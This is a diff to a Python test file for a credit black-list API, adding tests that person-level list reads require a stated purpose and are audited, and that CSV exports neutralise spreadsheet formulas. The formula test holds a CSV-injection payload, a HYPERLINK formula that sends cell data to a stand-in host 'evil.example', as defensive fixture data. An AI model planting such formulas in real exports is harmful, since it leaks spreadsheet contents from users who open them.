@@ -4,12 +4,16 @@ repair refused as too early → repair accepted; with roles, region scopes and e
 
 from __future__ import annotations
 
+import csv
+import io
 import threading
 from datetime import date, datetime
 
 import pytest
 
 from api_helpers import assert_error, client, make_key
+from graph_service.api import keys as api_keys
+from graph_service.cypher import query
 from graph_service.workflow import objections, repair
 from graph_service.workflow.store import CHINA
 from workflow_fixtures import regions, resident_id, seed, set_sent, uscc
@@ -36,6 +40,12 @@ def api(graph):
                 "changsha": make_key(graph, "department", "430100"), "public": make_key(graph, "public"),
                 "admin": make_key(graph, "admin"), "investigator": make_key(graph, "investigator")}
         yield c, keys, graph
+
+
+def audit_of(graph, headers) -> list[dict]:
+    key_id, _ = api_keys.parse(headers["X-API-Key"])
+    records = graph.execute_query(query("audit/list"), subject_id=None, limit=1000).records
+    return [r["entry"] for r in records if r["entry"]["key_id"] == key_id]
 
 
 def check(c, h, subject_id: str, action: str, as_of: date) -> dict:
@@ -149,11 +159,11 @@ def test_calendar_gap_and_scope_errors(api, monkeypatch):
     assert_error(c.post("/v1/records/API-B-1/objections", json={"notice_on": "2026-12-20"}, headers=k["city"]),
                  422, "calendar_unknown", "notice_on")
     assert_error(c.post("/v1/records/API-B-1/objections", json={"notice_on": "2025-09-30"},
-                        headers=k["changsha"]), 403, "outside_region", "record_id")
+                        headers=k["changsha"]), 404, "not_found", "record_id")
     assert_error(c.post("/v1/records/NOPE/objections", json={"notice_on": "2025-09-30"}, headers=k["city"]),
                  404, "not_found", "record_id")
     assert_error(c.post("/v1/notifications/API-B-1|431000/feedback", json={"applied": True},
-                        headers=k["beihu"]), 403, "outside_region", "notification_id")
+                        headers=k["beihu"]), 404, "not_found", "notification_id")
     assert_error(c.get("/v1/notifications", params={"region": "431000"}, headers=k["beihu"]), 403,
                  "outside_region", "region")
     assert_error(c.get("/v1/records/API-B-1/history", headers=k["public"]), 403, "forbidden")
@@ -173,6 +183,54 @@ def test_lists_mask_persons_for_the_public_and_export_csv(api):
     lines = r.text.strip().splitlines()
     assert lines[0].startswith("record_id,kind,category") and len(lines) == 2
     assert P not in r.text and "张*丰" in r.text
+
+
+def test_person_level_list_reads_need_a_purpose_and_are_audited(api):
+    """Issue 15 item 6: an investigator read the black list's person ids without X-Purpose, unaudited."""
+    c, k, graph = api
+    person_record = {**RECORD, "record_id": "API-B-P", "subject_kind": "person", "subject_id": P,
+                     "category": "defy_judicial_admin", "responsible_person_ids": []}
+    assert c.post("/v1/records", json=person_record, headers=k["city"]).status_code == 201
+    params = {"as_of": "2025-10-01"}
+    for fmt in ("json", "csv"):
+        assert_error(c.get("/v1/lists/black", params={**params, "format": fmt}, headers=k["investigator"]),
+                     422, "purpose_required", "X-Purpose")
+    assert audit_of(graph, k["investigator"]) == []
+    r = c.get("/v1/lists/black", params=params, headers={**k["investigator"], "X-Purpose": "case 12"})
+    assert r.status_code == 200 and r.json()["items"][0]["subject_id"] == P
+    r = c.get("/v1/lists/black", params={**params, "format": "csv"}, headers={**k["investigator"], "X-Purpose": "case 12"})
+    assert r.status_code == 200 and P in r.text
+    assert [(a["subject_kind"], a["subject_id"], a["purpose"], a["endpoint"], str(a["as_of"]))
+            for a in audit_of(graph, k["investigator"])] == [("person", P, "case 12", "GET /v1/lists/black",
+                                                              "2025-10-01")] * 2
+    # departments and admins are audited without a purpose; the public sees masks, nothing audited
+    assert c.get("/v1/lists/black", params=params, headers=k["city"]).status_code == 200
+    assert [a["subject_id"] for a in audit_of(graph, k["city"])] == [P]
+    assert c.get("/v1/lists/black", params=params, headers=k["public"]).status_code == 200
+    assert audit_of(graph, k["public"]) == []
+    # a list without persons is not person-level: no purpose needed
+    assert c.get("/v1/lists/red", params=params, headers=k["investigator"]).status_code == 200
+
+
+def test_csv_export_neutralises_formulas(api):
+    """Issue 15 item 9: `=HYPERLINK(...)` went to the public's spreadsheet as a formula."""
+    c, k, graph = api
+    evil = uscc(32)
+    name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    seed(graph, enterprises=[{"uscc": evil, "name": name, "region_code": "431002"}])
+    record = {**RECORD, "record_id": "API-B-X", "subject_id": evil, "responsible_person_ids": [],
+              "document_no": "-2+3", "legal_basis": "@SUM(1,1)"}
+    assert c.post("/v1/records", json=record, headers=k["city"]).status_code == 201
+    r = c.get("/v1/lists/black", params={"as_of": "2025-10-01", "format": "csv"}, headers=k["public"])
+    assert r.status_code == 200, r.text
+    row = next(x for x in csv.DictReader(io.StringIO(r.text)) if x["record_id"] == "API-B-X")
+    assert row["subject_name"] == "'" + name
+    assert row["document_no"] == "'-2+3" and row["legal_basis"] == "'@SUM(1,1)"
+    assert row["decided_on"] == "2025-09-01" and row["authority_region"] == "431000"
+    # the JSON answer keeps the stored text as it is
+    item = next(x for x in c.get("/v1/lists/black", params={"as_of": "2025-10-01"}, headers=k["public"]).json()["items"]
+                if x["record_id"] == "API-B-X")
+    assert item["subject_name"] == name
 
 
 def test_concurrent_feedback_over_http_keeps_every_answer(api):
